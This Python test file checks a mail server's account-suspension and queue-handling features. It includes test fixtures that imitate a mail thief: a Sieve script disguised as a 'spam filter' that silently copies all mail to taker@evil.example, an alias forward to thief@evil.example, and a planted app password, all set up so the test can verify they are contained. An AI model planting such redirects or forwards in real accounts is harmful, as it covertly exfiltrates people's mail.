"""Containing and undoing beside others' mail: one account with everything a thief may leave behind,
and one with a hundred thousand messages in the queue."""

import time

from clikit import done, sekimori
from faultkit import SLOW
from labkit import wait_for
from test_reliability_load import LongQueue, ended, timed

THEIRS = 'require ["copy"];\nredirect :copy "taker@evil.example";\n'
STEPS = ("write_guard", "flush_auth_cache", "kick_sessions", "suspend_app_passwords", "hold_queued",
         "pause_forwards", "notify")


def resident_mb(pid):
    with open(f"/proc/{pid}/statm") as file:
        return int(file.read().split()[1]) * 4096 / 1e6


def test_everything_of_a_thief_is_contained_at_once(site, request):
    """Sessions, queued mail, an app password, a forward, a script: one order ends them all, and
    given again it changes nothing."""
    lab = site.lab
    with site.scenario(request, "an account with open sessions, queued mail, a planted forward, "
                       "script and app password suspended by one order, which is given "
                       "twice") as run:
        person = lab.hire(1)[0]
        lab.store_rows("UPDATE mailbox SET created = datetime('now', '-1 day') WHERE username = ?",
                       person)
        lab.store_rows("CREATE TABLE IF NOT EXISTS mailbox_app_password (id INTEGER PRIMARY KEY "
                       "AUTOINCREMENT, username VARCHAR(255) NOT NULL, description VARCHAR(255), "
                       "password_hash VARCHAR(255))")
        site.stop()
        site.start()  # tables are looked for once

        assert not lab.api.get(f"/accounts/{person}/ways")["items"]
        session = lab.imap(person, "203.0.113.66")
        for number in range(3):
            lab.send(person, f"defer-{number}@far.example", client="203.0.113.66")
        wait_for(lambda: len(lab.queued(person, queue="deferred")) == 3, 20, "mail in the queue")
        lab.api.change("restrict", "account", person, reason="it begins")
        lab.store_rows("UPDATE alias SET goto = goto || ',thief@evil.example' WHERE address = ?",
                       person)
        lab.store_rows("INSERT INTO mailbox_app_password(username, description, password_hash) "
                       "VALUES(?, 'printer', '$6$thief')", person)
        sieve, answer = lab.sieve(person, client="203.0.113.66")
        with sieve:
            assert answer.startswith("OK")
            sieve.put_active("spam filter", THEIRS)
        run.traffic.flows(2)

        began = time.monotonic()
        first = lab.api.call("POST", f"/accounts/{person}/suspend", {"reason": "a thief"})
        answered_s = time.monotonic() - began
        assert first["changed"]
        incident = lab.api.account(person)["incident"]["id"]

        def all_done():
            steps = {step["kind"]: step for step in site.steps(incident)}
            is_done = {step["state"] for step in site.steps(incident)} == {"done"}
            return steps if is_done and set(STEPS) <= set(steps) else None

        steps = run.healed(all_done, 60, "all steps done")
        contained_s = time.monotonic() - began
        assert ended(session)
        assert {entry["queue_name"] for entry in lab.queued(person)} == {"hold"}
        assert [row for [row] in lab.store_rows(
            "SELECT goto FROM alias WHERE address = ?", person)] == [person]
        [[hashed]] = lab.store_rows("SELECT password_hash FROM mailbox_app_password "
                                    "WHERE username = ?", person)
        assert hashed != "$6$thief"
        assert not any(one["active"] for one in lab.doveadm("sieveList", user=person))
        # Once more: nothing changes, nothing is told a second time.
        told = len(lab.api.get(f"/notices?account={person}")["items"])
        before = (lab.queued(person), lab.store_rows("SELECT * FROM alias"), site.steps(incident))
        again = lab.api.call("POST", f"/accounts/{person}/suspend", {"reason": "a thief"})
        assert not again["changed"]
        run.traffic.flows(2)
        after = (lab.queued(person), lab.store_rows("SELECT * FROM alias"), site.steps(incident))
        assert after == before
        assert len(lab.api.get(f"/notices?account={person}")["items"]) == told
        run.note(f"order answered in {answered_s * 1000:.0f} ms, {len(steps)} kinds of steps done "
                 f"in {contained_s:.1f} s; others' slowest hand-in {run.traffic.slowest():.2f} s")
        assert run.traffic.slowest() < 5
        lab.api.change("restore", "account", person, reason="a test's end")
        done(lab, "queue", "delete", person, "--all", "--reason", "a test's end")


def test_many_messages_through_queue(site, request):
    """`queue list|hold|release|delete` over more messages than any request may take."""
    count, released = (100_000, 20_000) if SLOW else (1_200, 600)
    patience = 60 + count / 20
    lab, helper = site.lab, site.helper_pid()
    with site.scenario(request, f"{count:,} queued messages of one account listed, held and "
                       f"deleted, {released:,} of another held and released, by the `queue` "
                       "command") as run:
        bulk, other = LongQueue(site, count), LongQueue(site, released)
        pid = lab.endpoints["pid"]
        before = resident_mb(pid)

        def queue(*words, reason=True):
            words += ("--reason", "a test") if reason else ()
            return timed(lambda: done(lab, "queue", *words, deadline=patience))

        list_s, seen = queue("list", bulk.address, reason=False)
        assert seen["total"] == count and seen["not_looked_at"] == 0
        hold_s, held = queue("hold", bulk.address, "--all")
        assert (held["done"], held["failed"], held["remaining"]) == (count, 0, 0), held
        assert bulk.in_queue("hold") == count and other.in_queue("hold") == 0
        again = sekimori(lab, "queue", "hold", bulk.address, "--all", "--json", deadline=patience)
        assert again.json["done"] == 0, "twice is as once"
        delete_s, deleted = queue("delete", bulk.address, "--all")
        assert (deleted["done"], deleted["failed"], deleted["remaining"]) == (count, 0, 0), deleted
        assert bulk.in_queue("hold") == 0 and not bulk.arrived()
        assert other.in_queue("deferred") == released, "the other's are touched"
        queue("hold", other.address, "--all")
        release_s, let_go = queue("release", other.address, "--all")
        assert (let_go["done"], let_go["remaining"]) == (released, 0), let_go
        run.healed(lambda: len(other.arrived()) >= released, patience, "all of them there")
        assert other.arrived() == [f"{other.mark} {number:08d}" for number in range(released)]
        grown = resident_mb(pid) - before
        run.note(f"listed in {list_s:.1f} s; held {count / hold_s:.0f}, deleted "
                 f"{count / delete_s:.0f}, released {released / release_s:.0f} a second; memory: "
                 f"daemon {before:.0f} MB before, +{grown:.0f} MB after, at most "
                 f"{site.memory_mb():.0f} MB; helper {site.memory_mb(helper):.0f} MB; others' "
                 f"slowest hand-in {run.traffic.slowest():.2f} s")
        assert site.memory_mb() < 1000 and site.memory_mb(helper) < 300
